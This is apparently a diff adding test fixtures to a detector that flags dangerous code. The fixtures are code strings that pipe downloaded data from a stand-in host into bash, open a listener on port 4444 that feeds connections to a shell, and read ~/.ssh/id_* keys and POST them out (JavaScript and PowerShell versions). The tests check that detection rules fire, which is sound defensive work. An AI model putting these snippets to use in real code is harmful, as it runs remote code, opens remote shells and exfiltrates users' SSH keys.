@@ -118,3 +118,52 @@ describe('the home folder is deleted', () => {
     expect(await rulesOf(path, code.replace('PLACE', own))).not.toContain('home-or-root-deleted');
   });
 });
+
+/** Each starts `PROGRAM` and lets it read what is downloaded. */
+const FED: Readonly<Record<string, readonly [path: string, code: string]>> = {
+  'a response that is piped in': [
+    'run.js',
+    `const { spawn } = require('child_process');\nconst child = spawn('PROGRAM', ['-s']);\nrequire('https').get('${IN}', (res) => res.pipe(child.stdin));`,
+  ],
+  'parts that are written in a callback': [
+    'run.js',
+    `const { spawn } = require('child_process');\nconst child = spawn('PROGRAM');\nrequire('https').get('${IN}', (res) => { res.on('data', (part) => child.stdin.write(part)); });`,
+  ],
+  'an attribute of an object': [
+    'run.ts',
+    `import * as tls from 'tls';\nimport { spawn } from 'child_process';\nclass Link {\n  private child = spawn('PROGRAM');\n  constructor(host: string) { tls.connect(443, host).pipe(this.child.stdin); }\n}\nnew Link('collect.example.invalid');`,
+  ],
+  'whoever connects': [
+    'run.js',
+    "const net = require('net');\nconst { spawn } = require('child_process');\nnet.createServer((peer) => { const child = spawn('PROGRAM'); peer.pipe(child.stdin); }).listen(4444);",
+  ],
+};
+
+describe('a program that runs', () => {
+  it.each(Object.entries(FED))(
+    'runs what is written to it, if it is a shell: %s',
+    async (_, [path, code]) => {
+      expect(await rulesOf(path, code.replace('PROGRAM', 'bash'))).toContain('downloaded-code-runs');
+      expect(await rulesOf(path, code.replace('PROGRAM', 'gzip'))).not.toContain('downloaded-code-runs');
+    },
+  );
+});
+
+/** Each reads all that it finds in `FOLDER` and sends it. */
+const FOUND: Readonly<Record<string, readonly [path: string, code: string]>> = {
+  'glob in JavaScript': [
+    'run.js',
+    `const { globSync } = require('glob');\nconst fs = require('fs');\nfor (const file of globSync(process.env.HOME + '/FOLDER/id_*')) fetch('${IN}', { method: 'POST', body: fs.readFileSync(file) });`,
+  ],
+  'a pipeline of PowerShell': [
+    'run.ps1',
+    `Get-ChildItem "$HOME/FOLDER" -Filter 'id_*' | ForEach-Object { Invoke-RestMethod ${IN} -Method Post -Body (Get-Content $_.FullName -Raw) }`,
+  ],
+};
+
+describe('files that are found', () => {
+  it.each(Object.entries(FOUND))('are secret where secrets are kept: %s', async (_, [path, code]) => {
+    expect(await rulesOf(path, code.replace('FOLDER', '.ssh'))).toContain('secret-file-to-network');
+    expect(await rulesOf(path, code.replace('FOLDER', 'notes'))).not.toContain('secret-file-to-network');
+  });
+});
